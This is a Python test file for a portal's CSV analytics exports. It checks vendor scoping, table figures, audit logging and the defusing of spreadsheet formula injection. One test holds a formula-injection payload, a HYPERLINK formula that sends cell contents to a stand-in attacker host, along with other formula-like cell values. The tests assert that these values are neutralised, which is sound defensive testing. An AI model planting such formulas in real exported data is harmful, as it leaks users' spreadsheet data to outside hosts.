"""CSV downloads: every table, the page's filters and scope, audited, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from portal.analytics.exports import TABLES, csv_chunks, safe_cell
from portal.auth.models import Role, Vendor
from portal.extensions import db
from portal.tasks.models import SubmissionStatus
from tests.analytics.conftest import at
from tests.auth.helpers import audit_events, details


def download(client, table: str, query: str = "") -> list[dict[str, str]]:
    response = client.get(f"/supervisor/{table}.csv{query}")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith(f'attachment; filename="{table}_')
    assert response.headers["Cache-Control"] == "no-store"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_every_table_for_a_vendor_supervisor_is_scoped(app, client, figures, login_as):
    """Each of Acme's tables names only Acme and its people, and adds up to Acme's numbers."""
    login_as(client, figures.acme_supervisor)
    for table in TABLES:
        response = client.get(f"/supervisor/{table}.csv")
        text = response.get_data(as_text=True)
        assert response.status_code == 200, table
        assert "globex" not in text.lower(), table
        assert "g1@" not in text, table
    annotators = download(client, "annotators")
    assert [(row["annotator"], row["vendor"], row["done"]) for row in annotators] == [
        ("a1@acme.example", "Acme Transcription", "5"),
        ("a2@acme.example", "Acme Transcription", "2"),
    ]
    assert [
        (row["vendor"], row["done"], row["rubber_stamp_flags"]) for row in download(client, "vendors")
    ] == [("Acme Transcription", "7", "2")]
    assert [(row["vendor"], row["queued"], row["in_progress"]) for row in download(client, "queue")] == [
        ("Acme Transcription", "2", "1")
    ]
    per_hour = download(client, "done-per-hour-by-annotator")
    assert sum(int(row["done"]) for row in per_hour) == 7
    assert {row["annotator"] for row in per_hour} == {"a1@acme.example", "a2@acme.example"}
    assert [row["submission"] for row in download(client, "rubber-stamps")] == [
        str(figures.submissions["a1-4"]),
        str(figures.submissions["a1-3"]),
    ]
    histogram = download(client, "time-on-task")
    assert sum(int(row["submissions"]) for row in histogram) == 7
    exported = audit_events(app, "analytics.exported")
    assert len(exported) == len(TABLES) + 6
    assert details(exported[0]) == {"from": "2026-11-24", "to": "2026-11-30", "vendor": figures.acme_id}
    assert exported[0].target == "table:queue"


def test_every_table_of_an_internal_supervisor_narrowed_to_one_vendor(client, figures, login_as):
    login_as(client, figures.internal_supervisor)
    query = f"?vendor={figures.globex_id}"
    for table in TABLES:
        text = client.get(f"/supervisor/{table}.csv{query}").get_data(as_text=True)
        assert "acme" not in text.lower(), table
    assert [row["annotator"] for row in download(client, "annotators", query)] == ["g1@globex.example"]


def test_tables_of_an_internal_supervisor(client, figures, login_as):
    login_as(client, figures.internal_supervisor)
    assert [(row["vendor"], row["queued"], row["oldest_queued_at"]) for row in download(client, "queue")] == [
        ("Acme Transcription", "2", "2026-11-29T09:00:00+00:00"),
        ("Globex Voice", "2", "2026-11-29T09:00:00+00:00"),
        ("All vendors", "3", "2026-11-29T09:00:00+00:00"),
    ]
    vendors = {row["vendor"]: row for row in download(client, "vendors")}
    assert vendors["Acme Transcription"]["median_time_over_clip_length"] == "1.2"
    assert vendors["Acme Transcription"]["gold_wer"] == "0.2"
    assert vendors["Globex Voice"]["rejection_rate"] == "0.6667"
    assert vendors["Globex Voice"]["leases_expired"] == "1"
    per_day = download(client, "done-per-day-by-vendor")
    assert [(row["day"], row["vendor"], row["done"]) for row in per_day] == [
        ("2026-11-24", "Acme Transcription", "2"),
        ("2026-11-25", "Acme Transcription", "1"),
        ("2026-11-26", "Acme Transcription", "2"),
        ("2026-11-27", "Globex Voice", "2"),
        ("2026-11-29", "Acme Transcription", "2"),
    ]
    per_hour = download(client, "done-per-hour-by-vendor", "?from=2026-11-29&to=2026-11-29")
    assert [(row["hour"], row["done"]) for row in per_hour] == [
        ("2026-11-29T09:00:00+00:00", "1"),
        ("2026-11-29T10:00:00+00:00", "1"),
    ]


def test_unknown_table(client, figures, login_as):
    login_as(client, figures.internal_supervisor)
    assert client.get("/supervisor/secrets.csv").status_code == 404


def test_formula_cells_are_defused(app, client, ledger, figures, create_user, login_as):
    """Names that look like formulas are written as text (a leading apostrophe), never evaluated.

    An email address may start with `=` (the portal accepts any address of the usual
    shape); vendor names are validated today, so the formula-like one is put straight in
    the database, as an older version or a direct import could have.
    """
    evil_email = '=hyperlink("http://attacker.example/?"&a1,"x")@evil.example'
    evil_vendor = "@SUM(1+1)"
    with app.app_context():
        db.session.add(Vendor(name=evil_vendor))
        db.session.commit()
    annotator = create_user(Role.ANNOTATOR, evil_vendor, email=evil_email)
    ledger.submission(
        annotator, evil_vendor, at(28, 10), time_ms=1_000, wer=0.0, status=SubmissionStatus.AUTO_ACCEPTED
    )
    login_as(client, figures.internal_supervisor)
    for table, column, evil in (
        ("annotators", "annotator", evil_email),
        ("done-per-hour-by-annotator", "annotator", evil_email),
        ("rubber-stamps", "annotator", evil_email),
        ("vendors", "vendor", evil_vendor),
        ("done-per-day-by-vendor", "vendor", evil_vendor),
        ("queue", "vendor", evil_vendor),
    ):
        cells = [row[column] for row in download(client, table)]
        assert "'" + evil in cells, table
        assert evil not in cells, table


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Acme", "Acme"),
        ("a-b", "a-b"),
        (-0.5, -0.5),
        (3, 3),
        (None, ""),
        (True, "yes"),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_chunks_round_trip():
    rows = [[f"=cell {n}", n, n / 3] for n in range(1201)]
    text = "".join(csv_chunks(["name", "n", "third"], rows))
    read = list(csv.reader(io.StringIO(text)))
    assert read[0] == ["name", "n", "third"]
    assert len(read) == 1202
    assert read[1201] == ["'=cell 1200", "1200", "400.0"]
